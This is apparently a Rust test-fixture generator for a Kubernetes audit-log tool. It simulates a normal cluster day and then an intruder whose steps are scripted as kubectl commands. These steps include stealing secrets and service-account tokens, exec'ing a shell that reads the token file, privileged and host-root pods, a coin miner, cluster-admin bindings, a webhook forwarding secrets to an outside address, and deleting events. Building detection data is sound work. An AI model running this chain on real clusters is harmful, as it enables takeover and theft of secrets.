//! Makes `examples/audit.log.gz`: a day of a small cluster in half a minute, then an intruder's.
//!
//! ```text
//! sudo -E cargo run -p auditward-testkit --example capture
//! ```
//!
//! Everything is done with the real kubectl against a real node that records everything. Some steps are meant to be
//! denied; what a step must come to is part of it, so that a capture that went otherwise is not written.

#![expect(clippy::print_stderr, reason = "a program for the maintainer at a terminal")]

use std::error::Error;
use std::fmt::Write as _;
use std::fs::{self, File};
use std::path::Path;
use std::process::{Command, Stdio};
use std::thread::sleep;
use std::time::Duration;

use auditward_testkit::{Kubectl, Node};

const POLICY: &str = "apiVersion: audit.k8s.io/v1
kind: Policy
omitManagedFields: true
rules:
- level: RequestResponse
";

const WEB: &str = "registry.example/shop/web";

type Done = Result<(), Box<dyn Error>>;

fn main() -> Done {
    let node = Node::builder("cp1").audit_policy(POLICY).start()?;
    for name in [&format!("{WEB}:1.4"), &format!("{WEB}:1.5"), "docker.io/xmrig/xmrig:6.21"] {
        node.tag_image(Node::IMAGE, name)?;
    }
    let mut story = Story { node: &node, steps: Vec::new() };
    story.ordinary_day()?;
    story.intruder()?;

    // What the background does after the last step belongs to the log too.
    sleep(Duration::from_secs(3));
    let folder = Path::new(env!("CARGO_MANIFEST_DIR")).join("../../examples");
    let log = fs::read(node.path(Node::AUDIT_LOG))?;
    let whole = log.iter().rposition(|&byte| byte == b'\n').map_or(0, |end| end + 1);
    let out = File::create(folder.join("audit.log.gz"))?;
    let mut gzip = Command::new("gzip").args(["-9", "-n"]).stdin(Stdio::piped()).stdout(out).spawn()?;
    std::io::Write::write_all(&mut gzip.stdin.take().ok_or("no pipe")?, &log[..whole])?;
    if !gzip.wait()?.success() {
        return Err("gzip failed".into());
    }
    let events = log[..whole].split(|&byte| byte == b'\n').count() - 1;
    fs::write(folder.join("README.md"), readme(events, &story.steps))?;
    eprintln!("{events} events, {} steps", story.steps.len());
    node.stop();
    Ok(())
}

struct Step {
    /// Events of this step come after this one's time.
    after: String,
    who: &'static str,
    what: &'static str,
    /// The denial that the step must meet, if it is one that is refused.
    denied: bool,
}

struct Story<'a> {
    node: &'a Node,
    steps: Vec<Step>,
}

impl Story<'_> {
    fn ordinary_day(&mut self) -> Done {
        let node = self.node;
        let admin = node.kubectl();
        let alice = node.kubectl_as("alice@shop.example", &["developers"])?;
        let bob = node.kubectl_as("bob@shop.example", &["operators"])?;
        let carol = node.kubectl_as("carol@shop.example", &["auditors"])?;

        self.note(
            "kubernetes-super-admin",
            "sets up the namespace `shop`, its roles and the CI's service account",
        );
        k(&admin, "create namespace shop")?;
        k(&admin, "create namespace ci")?;
        k(&admin, "create rolebinding developers -n shop --clusterrole=edit --group=developers")?;
        k(&admin, "create clusterrolebinding operators --clusterrole=cluster-admin --group=operators")?;
        k(&admin, "create clusterrolebinding auditors --clusterrole=view --group=auditors")?;
        k(&admin, "create serviceaccount deployer -n ci")?;
        k(&admin, "create rolebinding ci-deploys -n shop --clusterrole=edit --serviceaccount=ci:deployer")?;
        k(&admin, "create quota shop -n shop --hard=pods=20,secrets=20")?;

        self.note(
            "alice@shop.example",
            "deploys the shop: config map, secret, deployment, service, cron job",
        );
        k(&alice, "create configmap web -n shop --from-literal=greeting=hello --from-literal=workers=2")?;
        k(&alice, "create secret generic database -n shop --from-literal=password=not-a-real-password")?;
        k(&alice, "create serviceaccount web -n shop")?;
        alice.apply(&deployment())?;
        k(&alice, "expose deployment web -n shop --port=80 --target-port=8080")?;
        let job = "create cronjob report -n shop --schedule=0_3_*_*_* --image=registry.example/shop/web:1.4 -- true";
        let job: Vec<String> = job.split(' ').map(|word| word.replace('_', " ")).collect();
        alice.run(&job)?;
        k(&alice, "rollout status deployment/web -n shop --timeout=90s")?;

        self.note("alice@shop.example", "looks around: pods, logs, a description");
        k(&alice, "get pods,services,configmaps -n shop")?;
        k(&alice, "logs deployment/web -n shop")?;
        k(&alice, "describe deployment web -n shop")?;
        k(&alice, "top pods -n shop").ok();

        self.note("system:serviceaccount:ci:deployer", "rolls out 1.5 with a bound token, then scales");
        let token = k(&admin, "create token deployer -n ci --duration=1h")?;
        let ci = node.kubectl_with_token("deployer", token.trim())?;
        k(&ci, &format!("set image deployment/web -n shop web={WEB}:1.5"))?;
        k(&ci, "rollout status deployment/web -n shop --timeout=90s")?;
        k(&ci, "scale deployment/web -n shop --replicas=3")?;
        k(&ci, "rollout status deployment/web -n shop --timeout=90s")?;

        self.note("alice@shop.example", "edits the config map and restarts; takes a look at the history");
        k(&alice, r#"patch configmap web -n shop -p {"data":{"greeting":"good-day"}}"#)?;
        k(&alice, "rollout restart deployment/web -n shop")?;
        k(&alice, "rollout status deployment/web -n shop --timeout=90s")?;
        k(&alice, "rollout history deployment/web -n shop")?;

        self.note("bob@shop.example", "operates: nodes, events, a dry run, a label, scaling down");
        k(&bob, "get nodes -o wide")?;
        k(&bob, "get events -A")?;
        k(&bob, "label namespace shop tier=production")?;
        k(&bob, "scale deployment/web -n shop --replicas=2 --dry-run=server")?;
        k(&bob, "scale deployment/web -n shop --replicas=2")?;
        k(&bob, "delete cronjob report -n shop")?;

        self.note("carol@shop.example", "reads what an auditor may");
        k(&carol, "get deployments,pods -A")?;
        k(&carol, "auth whoami")?;
        k(&carol, "auth can-i list secrets -n shop").ok();
        Ok(())
    }

    fn intruder(&mut self) -> Done {
        let node = self.node;
        let admin = node.kubectl();
        // The stolen credentials: a developer's, and those of a service account that may do far too much.
        let mallory = node.kubectl_as("mallory@shop.example", &["developers"])?;
        k(&admin, "create serviceaccount backup -n shop")?;
        k(
            &admin,
            "create clusterrolebinding backup --clusterrole=cluster-admin --serviceaccount=shop:backup",
        )?;

        self.denied(
            "mallory@shop.example",
            "tries what a developer may not: secrets of kube-system, nodes, roles",
        );
        refused(&mallory, "get secrets -n kube-system")?;
        refused(&mallory, "get nodes")?;
        refused(
            &mallory,
            "create clusterrolebinding mine --clusterrole=cluster-admin --user=mallory@shop.example",
        )?;
        k(&mallory, "auth can-i --list -n shop")?;

        self.note("mallory@shop.example", "reads the shop's secrets");
        k(&mallory, "get secrets -n shop -o yaml")?;

        self.note("mallory@shop.example", "requests a token of the service account `backup`");
        let token = k(&mallory, "create token backup -n shop")?;
        let backup = node.kubectl_with_token("backup", token.trim())?;

        self.note("system:serviceaccount:shop:backup", "lists all secrets of the cluster with that token");
        k(&backup, "get secrets -A")?;

        self.note("system:serviceaccount:shop:backup", "runs a shell in a running pod (exec)");
        k(
            &backup,
            "exec deployment/web -n shop -- sh -c id;cat</var/run/secrets/kubernetes.io/serviceaccount/token",
        )?;

        self.note("system:serviceaccount:shop:backup", "starts a privileged pod");
        backup.apply(&pod("tool", "securityContext: {privileged: true}", "", ""))?;

        self.note("system:serviceaccount:shop:backup", "starts a pod that mounts the node's root (hostPath)");
        let volume = "volumes: [{name: root, hostPath: {path: /}}]";
        backup.apply(&pod("root", "volumeMounts: [{name: root, mountPath: /host}]", volume, ""))?;

        self.note(
            "system:serviceaccount:shop:backup",
            "starts a pod in the node's network and process namespaces",
        );
        backup.apply(&pod("net", "", "hostNetwork: true", "hostPID: true"))?;

        self.note("system:serviceaccount:shop:backup", "starts a coin miner");
        k(&backup, "run worker -n shop --image=docker.io/xmrig/xmrig:6.21 -- sleep 600")?;

        self.note("system:serviceaccount:shop:backup", "binds `cluster-admin` to a user of its own");
        k(&backup, "create clusterrolebinding helper --clusterrole=cluster-admin --user=helper")?;

        self.note("system:serviceaccount:shop:backup", "lets anonymous users view everything");
        k(&backup, "create clusterrolebinding open --clusterrole=view --user=system:anonymous")?;

        self.note("system:anonymous", "looks in without any credentials");
        let anonymous = format!("https://{}:6443/api/v1/namespaces/shop/pods", node.address());
        let anonymously = Command::new("curl").args(["-skf", "--max-time", "10", &anonymous]).output()?;
        if !anonymously.status.success() {
            return Err("curl could not ask anonymously".into());
        }

        self.note("system:serviceaccount:shop:backup", "makes a role that may do everything");
        k(&backup, "create clusterrole everything --verb=* --resource=*.*")?;

        self.note("system:serviceaccount:shop:backup", "impersonates the operators' bob");
        k(&backup, "get secrets -n kube-system --as=bob@shop.example --as-group=operators")?;

        self.note("system:serviceaccount:shop:backup", "reaches the kubelet through the node's proxy");
        k(&backup, "get --raw /api/v1/nodes/cp1/proxy/pods")?;

        self.note(
            "system:serviceaccount:shop:backup",
            "has a certificate for `system:masters` asked for (denied) and one for a user approved",
        );
        certificate(&backup)?;

        self.note("system:serviceaccount:shop:backup", "registers a webhook that would see all secrets");
        backup.apply(WEBHOOK)?;

        self.note("system:serviceaccount:shop:backup", "opens a node port");
        k(&backup, "expose deployment/web -n shop --name=door --type=NodePort --port=80")?;

        self.note("system:serviceaccount:shop:backup", "adds a debugging container to a running pod");
        k(&backup, &format!("debug -n shop tool --image={} -- true", Node::IMAGE)).ok();

        self.note(
            "system:serviceaccount:shop:backup",
            "covers its tracks: deletes the events, the pods, the webhook",
        );
        k(&backup, "delete events --all -n shop")?;
        k(&backup, "delete pod tool root net worker -n shop --grace-period=0 --force")?;
        k(&backup, "delete validatingwebhookconfiguration audit-helper")?;

        self.note("system:serviceaccount:shop:backup", "deletes a namespace");
        k(&backup, "delete namespace ci --timeout=60s")?;
        Ok(())
    }

    fn note(&mut self, who: &'static str, what: &'static str) {
        self.step(who, what, false);
    }

    fn denied(&mut self, who: &'static str, what: &'static str) {
        self.step(who, what, true);
    }

    fn step(&mut self, who: &'static str, what: &'static str, denied: bool) {
        eprintln!("{who} {what}");
        let log = fs::read_to_string(self.node.path(Node::AUDIT_LOG)).unwrap_or_default();
        let time = log.rsplit("\"stageTimestamp\":\"").next().and_then(|rest| rest.split('"').next());
        self.steps.push(Step { after: time.unwrap_or("-").to_owned(), who, what, denied });
    }
}

/// kubectl with words separated by spaces.
fn k(kubectl: &Kubectl, words: &str) -> Result<String, Box<dyn Error>> {
    // A shell script after `sh -c` is one word.
    let arguments: Vec<&str> = match words.split_once(" sh -c ") {
        Some((before, script)) => before.split(' ').chain(["sh", "-c", script]).collect(),
        None => words.split(' ').collect(),
    };
    Ok(kubectl.run(&arguments)?)
}

fn refused(kubectl: &Kubectl, words: &str) -> Done {
    match k(kubectl, words) {
        Err(e) if e.to_string().contains("Forbidden") || e.to_string().contains("forbidden") => Ok(()),
        Err(e) => Err(e),
        Ok(said) => Err(format!("`{words}` should have been refused, but said {said}").into()),
    }
}

fn deployment() -> String {
    format!(
        "apiVersion: apps/v1
kind: Deployment
metadata: {{name: web, namespace: shop, labels: {{app: web}}}}
spec:
  replicas: 2
  selector: {{matchLabels: {{app: web}}}}
  template:
    metadata: {{labels: {{app: web}}}}
    spec:
      serviceAccountName: web
      terminationGracePeriodSeconds: 1
      containers:
      - name: web
        image: {WEB}:1.4
        command: [sh, -c, 'echo serving; sleep 3600']
        envFrom: [{{configMapRef: {{name: web}}}}]
        env: [{{name: PASSWORD, valueFrom: {{secretKeyRef: {{name: database, key: password}}}}}}]
"
    )
}

fn pod(name: &str, container: &str, spec: &str, more: &str) -> String {
    format!(
        "apiVersion: v1
kind: Pod
metadata: {{name: {name}, namespace: shop}}
spec:
  containers:
  - name: {name}
    image: {WEB}:1.5
    command: [sleep, '600']
    {container}
  {spec}
  {more}
"
    )
}

const WEBHOOK: &str = "apiVersion: admissionregistration.k8s.io/v1
kind: ValidatingWebhookConfiguration
metadata: {name: audit-helper}
webhooks:
- name: helper.shop.example
  clientConfig: {url: 'https://203.0.113.7/secrets'}
  rules: [{apiGroups: [''], apiVersions: [v1], operations: [CREATE, UPDATE], resources: [secrets]}]
  failurePolicy: Ignore
  timeoutSeconds: 1
  sideEffects: None
  admissionReviewVersions: [v1]
";

/// Asks for two certificates, of which admission refuses the first, and has the second approved.
fn certificate(kubectl: &Kubectl) -> Done {
    for (name, subject) in [("masters", "/O=system:masters/CN=helper"), ("helper", "/CN=helper")] {
        let made = Command::new("openssl")
            .args(["req", "-new", "-newkey", "rsa:2048", "-nodes", "-keyout", "/dev/null", "-subj", subject])
            .output()?;
        let mut base64 =
            Command::new("base64").arg("-w0").stdin(Stdio::piped()).stdout(Stdio::piped()).spawn()?;
        std::io::Write::write_all(&mut base64.stdin.take().ok_or("no pipe")?, &made.stdout)?;
        let request = String::from_utf8(base64.wait_with_output()?.stdout)?;
        let asked = kubectl.run_with_input(
            &["create", "-f", "-"],
            &format!(
                "apiVersion: certificates.k8s.io/v1
kind: CertificateSigningRequest
metadata: {{name: {name}}}
spec:
  request: {request}
  signerName: kubernetes.io/kube-apiserver-client
  expirationSeconds: 86400
  usages: [client auth]
"
            ),
        );
        if asked.is_ok() != (name == "helper") {
            return Err(format!("the request `{name}` went otherwise than it should: {asked:?}").into());
        }
    }
    k(kubectl, "certificate approve helper")?;
    Ok(())
}

fn readme(events: usize, steps: &[Step]) -> String {
    let mut text = format!(
        "# Examples

`policies/` holds audit policies, `nodes/` what `auditward status --root` needs of control-plane nodes; `run.sh` is what
`make run` starts.

## audit.log.gz

{events} events of a real kube-apiserver on a real kubeadm node: half a minute of a small shop's cluster, and then an
intruder. The policy was one rule, `RequestResponse`, with `omitManagedFields: true` and every stage recorded. Users come
by client certificate, service accounts by token; the kubelet, the scheduler and the controllers are in between, as in life.

It is made by `crates/testkit/examples/capture.rs` with the real kubectl (`sudo -E cargo run -p auditward-testkit --example
capture`), which also writes this page. Another run makes other names, identifiers and times. Tokens and keys
in it are of a cluster that was gone a minute later; the secret's value says what it is not.

Each step's events come after the given `stageTimestamp` and before the next step's:

| after | user | step |
| --- | --- | --- |
"
    );
    for step in steps {
        let denied = if step.denied { " (403)" } else { "" };
        let _ = writeln!(text, "| {} | `{}` | {}{denied} |", step.after, step.who, step.what);
    }
    text
}
